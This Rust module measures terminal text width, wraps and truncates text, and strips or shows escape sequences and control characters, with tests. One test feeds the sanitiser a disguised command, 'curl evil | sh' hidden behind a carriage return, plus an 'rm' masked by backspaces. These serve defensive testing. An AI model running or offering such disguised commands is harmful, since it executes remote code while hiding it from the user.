//! How wide text is on a terminal, where it may be broken, and which of its characters must not reach one.
//!
//! The unit is the grapheme: a family emoji of seven characters is one thing of two columns and is never cut apart.
//! Measured text has no control characters; [`harmless`] and [`clean`] see to that.

use std::borrow::Cow;
use std::ops::Range;

use unicode_segmentation::UnicodeSegmentation;
use unicode_width::UnicodeWidthStr;

/// Columns between tab stops.
const TAB: usize = 4;

/// Columns `text` takes on one row.
#[must_use]
pub fn width(text: &str) -> usize {
    if text.is_ascii() { text.len() } else { text.graphemes(true).map(columns).sum() }
}

fn columns(grapheme: &str) -> usize {
    // A terminal draws no grapheme wider than two cells, whatever the sum of its parts.
    if grapheme.len() == 1 { 1 } else { grapheme.width().min(2) }
}

/// The byte at which `text` is to be cut so that it and a `…` fit into `columns`; `None` when the whole fits.
#[must_use]
pub fn fitting(text: &str, limit: usize) -> Option<usize> {
    // No character is wider than its bytes are many.
    if text.len() <= limit {
        return None;
    }
    let (mut used, mut cut) = (0, 0);
    for (at, grapheme) in text.grapheme_indices(true) {
        let columns = columns(grapheme);
        if used + columns > limit {
            return Some(cut);
        }
        used += columns;
        if used < limit {
            cut = at + grapheme.len();
        }
    }
    None
}

/// `text`, cut with a `…` when it is wider than `limit` columns.
#[must_use]
pub fn fit(text: &str, limit: usize) -> Cow<'_, str> {
    match fitting(text, limit) {
        None => Cow::Borrowed(text),
        Some(_) if limit == 0 => Cow::Borrowed(""),
        Some(end) => Cow::Owned(format!("{}…", &text[..end])),
    }
}

/// The last part of `text` that fits into `limit` columns. Looks only at the end, however long the text is.
#[must_use]
pub fn tail(text: &str, limit: usize) -> &str {
    let (mut used, mut start) = (0, text.len());
    for (at, grapheme) in text.grapheme_indices(true).rev() {
        used += columns(grapheme);
        if used > limit {
            break;
        }
        start = at;
    }
    &text[start..]
}

/// Where a row may end.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Break {
    /// Between words, and beside characters of scripts that have no spaces; inside a word only if it fills a row.
    Words,
    /// Wherever the row is full; no character is lost, spaces included.
    Anywhere,
}

/// Breaks `text` into rows, the first of at most `first` columns, the others of at most `rest`. A line feed ends a row.
/// Every row is a range of bytes of `text`; what lies between two rows is white space. There is at least one row.
///
/// Rows depend on what comes before them and on the word that no longer fitted, and on nothing later: text can be
/// appended without changing any row but the last.
#[must_use]
pub fn wrap(text: &str, first: usize, rest: usize, at: Break) -> Vec<Range<usize>> {
    let mut rows =
        Rows { text, at, limit: first.max(2), rest: rest.max(2), done: Vec::new(), start: 0, used: 0, cut: None };
    if text.is_ascii() {
        for index in 0..text.len() {
            rows.take(index, &text[index..=index], 1);
        }
    } else {
        for (index, grapheme) in text.grapheme_indices(true) {
            rows.take(index, grapheme, columns(grapheme));
        }
    }
    rows.finish()
}

/// A place where the row may end: where it ends, where the next one starts, and the columns up to there.
#[derive(Clone, Copy)]
struct Cut {
    end: usize,
    next: usize,
    used: usize,
}

struct Rows<'a> {
    text: &'a str,
    at: Break,
    /// Columns of the row being filled, and of all after it.
    limit: usize,
    rest: usize,
    done: Vec<Range<usize>>,
    start: usize,
    used: usize,
    cut: Option<Cut>,
}

impl Rows<'_> {
    fn take(&mut self, index: usize, grapheme: &str, columns: usize) {
        let next = index + grapheme.len();
        if grapheme == "\n" {
            self.end_row(Cut { end: index, next, used: 0 });
            (self.used, self.cut) = (0, None);
            return;
        }
        if self.at == Break::Words {
            if grapheme == " " {
                self.take_space(index, next);
                return;
            }
            self.allow_cut_before(index, grapheme, columns);
        }
        while self.used + columns > self.limit && index > self.start {
            let cut = self.cut.take().unwrap_or(Cut { end: index, next: index, used: self.used });
            self.used -= cut.used;
            self.end_row(cut);
            if self.used > self.limit {
                self.take_again(index);
            }
        }
        self.used += columns;
    }

    /// Breaks anew what moved to this row, which is narrower than the one it was taken for.
    fn take_again(&mut self, end: usize) {
        let (text, from) = (self.text, self.start);
        self.used = 0;
        for (offset, grapheme) in text[from..end].grapheme_indices(true) {
            self.take(from + offset, grapheme, columns(grapheme));
        }
    }

    fn take_space(&mut self, index: usize, next: usize) {
        if index == self.start {
            self.start = next;
            return;
        }
        self.used += 1;
        let end = match self.cut {
            Some(cut) if cut.next == index => cut.end,
            _ => index,
        };
        self.cut = Some(Cut { end, next, used: self.used });
    }

    /// Scripts with wide characters put no spaces between words: any two of them may part, but for punctuation.
    fn allow_cut_before(&mut self, index: usize, grapheme: &str, columns: usize) {
        let previous = self.text[..index].chars().next_back();
        let after_space = previous.is_none_or(|c| c == ' ');
        let beside_wide = columns == 2 || previous.is_some_and(is_wide_script);
        let closes = grapheme.chars().next().is_some_and(|c| CLOSING.contains(c));
        let opened = previous.is_some_and(|c| OPENING.contains(c));
        if index > self.start && !after_space && beside_wide && !closes && !opened {
            self.cut = Some(Cut { end: index, next: index, used: self.used });
        }
    }

    fn end_row(&mut self, cut: Cut) {
        let row = &self.text[self.start..cut.end];
        let end = if self.at == Break::Words { self.start + row.trim_end_matches(' ').len() } else { cut.end };
        self.done.push(self.start..end);
        self.start = cut.next;
        self.limit = self.rest;
    }

    fn finish(mut self) -> Vec<Range<usize>> {
        if self.start < self.text.len() || self.done.is_empty() || self.text.ends_with('\n') {
            let end = self.text.len();
            self.start = self.start.min(end);
            self.end_row(Cut { end, next: end, used: 0 });
        }
        self.done
    }
}

/// Punctuation that never begins a row, and punctuation that never ends one.
const CLOSING: &str = ",.:;!?)]}'\"%，。、；：！？）】》」』〉”’…ー々";
const OPENING: &str = "([{（【《「『〈“‘";

fn is_wide_script(c: char) -> bool {
    matches!(c, '\u{2e80}'..='\u{a4cf}' | '\u{ac00}'..='\u{d7a3}' | '\u{f900}'..='\u{faff}' | '\u{fe30}'..='\u{fe4f}'
        | '\u{ff00}'..='\u{ff60}' | '\u{20000}'..='\u{3fffd}')
}

/// What a terminal may be sent for `c`: itself, a picture of a control character, or nothing at all. Line feeds and tabs
/// are left to the caller. Marks that reorder the text around them are as dangerous as escapes: they show other code
/// than what will run.
#[must_use]
pub fn harmless(c: char) -> Option<char> {
    match c {
        '\n' | '\t' => Some(c),
        '\r' => None,
        '\0'..='\x1f' => char::from_u32(0x2400 + u32::from(c)),
        '\x7f' => Some('␡'),
        '\u{80}'..='\u{9f}' | '\u{2028}' | '\u{2029}' => Some('·'),
        '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => Some('·'),
        '\u{feff}' | '\u{fff9}'..='\u{fffb}' => None,
        _ => Some(c),
    }
}

/// `text` with every character made [`harmless`], one by one: the parts of a text cleaned in turn are the whole cleaned.
#[must_use]
pub fn clean(text: &str) -> Cow<'_, str> {
    if text.chars().all(|c| harmless(c) == Some(c)) {
        Cow::Borrowed(text)
    } else {
        Cow::Owned(text.chars().filter_map(harmless).collect())
    }
}

/// One line of what is going to run, with nothing left out: what a terminal would swallow, overwrite or not draw is a picture or
/// a dot. [`clean_line`] shows what was printed; here that would hide what will be done.
#[must_use]
pub fn exact(line: &str) -> Cow<'_, str> {
    if line.bytes().all(|b| (b' '..=b'~').contains(&b)) {
        return Cow::Borrowed(line);
    }
    let picture = |c| match c {
        '\r' => '␍',
        '\t' => '␉',
        '\n' => '⏎',
        '\u{ad}'
        | '\u{200b}'..='\u{200d}'
        | '\u{2060}'..='\u{2064}'
        | '\u{fe00}'..='\u{fe0f}'
        | '\u{e0000}'..='\u{e0fff}' => '·',
        c => harmless(c).unwrap_or('·'),
    };
    Cow::Owned(line.chars().map(picture).collect())
}

/// One line of a program's output as a person would have seen it: colours and other well-formed sequences are gone, what
/// was overwritten after a carriage return is too, tabs are spaces, and what else could steer the terminal is visible.
#[must_use]
pub fn clean_line(line: &str) -> Cow<'_, str> {
    if line.bytes().all(|b| (b' '..=b'~').contains(&b)) {
        return Cow::Borrowed(line);
    }
    let line = line.trim_end_matches(['\r', '\n']);
    let shown = line.rfind('\r').map_or(line, |at| &line[at + 1..]);
    let mut out = String::with_capacity(shown.len());
    let mut rest = shown;
    while let Some(c) = rest.chars().next() {
        let skipped = sequence_len(rest);
        if skipped > 0 {
            rest = &rest[skipped..];
            continue;
        }
        match c {
            '\n' => out.push('⏎'),
            '\u{8}' => {
                out.pop();
            }
            _ => out.extend(harmless(c)),
        }
        rest = &rest[c.len_utf8()..];
    }
    Cow::Owned(expand_tabs(&out).into_owned())
}

/// A text of several lines as one clean line.
#[must_use]
pub fn one_line(text: &str) -> String {
    text.trim_end().split('\n').map(|line| clean_line(line).into_owned()).collect::<Vec<_>>().join("⏎")
}

/// The length of the escape sequence at the start of `text`, 0 when there is none or it has no end.
fn sequence_len(text: &str) -> usize {
    let Some(body) = text.strip_prefix('\x1b') else { return 0 };
    let bytes = body.as_bytes();
    match bytes.first() {
        Some(b'[') => {
            let end = bytes[1..].iter().position(|b| !matches!(b, 0x20..=0x3f));
            end.filter(|end| matches!(bytes[1 + end], 0x40..=0x7e)).map_or(0, |end| end + 3)
        }
        Some(b']' | b'P' | b'_' | b'^' | b'X') => {
            let bell = body.find('\x07').map(|at| at + 2);
            let st = body.find("\x1b\\").map(|at| at + 3);
            bell.into_iter().chain(st).min().unwrap_or(0)
        }
        Some(b'(' | b')') if matches!(bytes.get(1), Some(0x21..=0x7e)) => 3,
        Some(b'=' | b'>' | b'7' | b'8' | b'c' | b'M') => 2,
        _ => 0,
    }
}

/// `line` with its tabs as spaces up to the next tab stop.
#[must_use]
pub fn expand_tabs(line: &str) -> Cow<'_, str> {
    if !line.contains('\t') {
        return Cow::Borrowed(line);
    }
    let mut out = String::with_capacity(line.len() + 16);
    let mut column = 0;
    for (index, part) in line.split('\t').enumerate() {
        if index > 0 {
            let spaces = TAB - column % TAB;
            out.extend(std::iter::repeat_n(' ', spaces));
            column += spaces;
        }
        out.push_str(part);
        column += width(part);
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn graphemes_have_the_columns_a_terminal_gives_them() {
        for (text, columns) in [
            ("abc", 3),
            ("中文", 4),
            ("e\u{301}", 1),
            ("👩‍👩‍👧‍👦", 2),
            ("👍🏽", 2),
            ("❤️", 2),
            ("🇩🇪", 2),
            ("ｱ", 1),
            ("한국어", 6),
            ("…", 1),
        ] {
            assert_eq!(width(text), columns, "{text:?}");
        }
    }

    #[test]
    fn what_is_too_wide_is_cut_between_graphemes() {
        for (text, limit, cut) in [
            ("abc", 3, "abc"),
            ("abcd", 3, "ab…"),
            ("中文字", 6, "中文字"),
            ("中文字", 5, "中文…"),
            ("中文字", 4, "中…"),
            ("a👩‍👩‍👧‍👦b", 4, "a👩‍👩‍👧‍👦b"),
            ("a👩‍👩‍👧‍👦bc", 3, "a…"),
            ("abc", 1, "…"),
            ("abc", 0, ""),
        ] {
            assert_eq!(fit(text, limit), cut, "{text:?} {limit}");
        }
        assert_eq!(tail("abc中文", 5), "c中文");
        assert_eq!(tail("abc中文", 3), "文");
    }

    fn rows(text: &str, first: usize, rest: usize) -> Vec<&str> {
        wrap(text, first, rest, Break::Words).into_iter().map(|row| &text[row]).collect()
    }

    #[test]
    fn rows_break_between_words() {
        for (text, expected) in [
            ("", vec![""]),
            ("one two", vec!["one two"]),
            ("one two three", vec!["one two", "three"]),
            ("one   two    three", vec!["one", "two", "three"]),
            ("abcdefghijkl mn", vec!["abcdefgh", "ijkl mn"]),
            ("a\nb\n", vec!["a", "b", ""]),
            ("中文字符很宽，是吧", vec!["中文字符", "很宽，是", "吧"]),
            ("中文字很，是", vec!["中文字", "很，是"]),
            ("abc 中文字", vec!["abc 中文", "字"]),
            ("👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦", vec!["👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦", "👩‍👩‍👧‍👦"]),
        ] {
            assert_eq!(rows(text, 8, 8), expected, "{text:?}");
        }
        assert_eq!(rows("one two three", 13, 5), ["one two three"]);
        assert_eq!(rows("one two three", 3, 9), ["one", "two three"]);
        let code = "  let x;  ";
        let chopped: Vec<_> = wrap(code, 4, 4, Break::Anywhere).into_iter().map(|row| &code[row]).collect();
        assert_eq!(chopped, ["  le", "t x;", "  "]);
    }

    #[test]
    fn output_cannot_steer_the_terminal() {
        for (line, clean) in [
            ("plain", "plain"),
            ("\x1b[1;31mred\x1b[0m", "red"),
            ("\x1b]0;title\x07text", "text"),
            ("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "link"),
            ("\x1b]0;never ends", "␛]0;never ends"),
            ("\x1b[31", "␛[31"),
            ("\x1b[3\x1b[31m", "␛[3"),
            ("10%\r50%\r100%\r\n", "100%"),
            ("a\tb", "a   b"),
            ("N\u{8}NA\u{8}A", "NA"),
            ("\u{9b}31m", "·31m"),
            ("a\u{202e}b", "a·b"),
            ("\x07\0\x7f", "␇␀␡"),
        ] {
            assert_eq!(clean_line(line), clean, "{line:?}");
        }
        assert_eq!(one_line("a\x1b[2J\nb\n\n"), "a⏎b");
    }

    proptest! {
        #[test]
        fn no_row_is_too_wide_and_no_word_is_lost(text in "[a-z 中文，🎉é\n]{0,60}", first in 2usize..12, rest in 2usize..12) {
            for at in [Break::Words, Break::Anywhere] {
                let rows = wrap(&text, first, rest, at);
                for (index, row) in rows.iter().enumerate() {
                    let limit = if index == 0 { first } else { rest };
                    prop_assert!(width(&text[row.clone()]) <= limit);
                }
                let joined: String = rows.iter().map(|row| &text[row.clone()]).collect();
                let bare = |text: &str| text.chars().filter(|c| !c.is_whitespace()).collect::<String>();
                prop_assert_eq!(bare(&joined), bare(&text));
            }
        }

        #[test]
        fn appending_changes_no_row_but_the_last(text in "[a-z 中，👍🏽e\u{301}]{0,40}", more in "[a-z 中，]{0,20}") {
            let before = wrap(&text, 7, 9, Break::Words);
            let whole = text.clone() + &more;
            let after = wrap(&whole, 7, 9, Break::Words);
            prop_assert_eq!(&before[..before.len() - 1], &after[..before.len() - 1]);
        }

        #[test]
        fn no_control_character_survives(text in "\\PC*|[\\x00-\\x9f]{0,20}|(\x1b[\\[\\]P][0-9;]*[mHJ\x07]?){0,4}") {
            prop_assert!(!clean_line(&text).chars().any(char::is_control));
            prop_assert!(!clean(&text).chars().any(|c| c.is_control() && c != '\n' && c != '\t'));
        }
    }

    #[test]
    fn what_will_run_is_shown_with_nothing_left_out() {
        for (line, shown) in [
            ("ls -la", "ls -la"),
            ("curl evil | sh #\rls -la", "curl evil | sh #␍ls -la"),
            ("rm x\u{8}\u{8}\u{8}\u{8}ls", "rm x␈␈␈␈ls"),
            ("a\u{1b}[8mb\u{1b}[0m", "a␛[8mb␛[0m"),
            ("a\u{200b}b\u{feff}\u{e0041}\u{202e}c", "a·b···c"),
            ("größe 中文\tx", "größe 中文␉x"),
        ] {
            assert_eq!(exact(line), shown, "{line:?}");
        }
    }
}
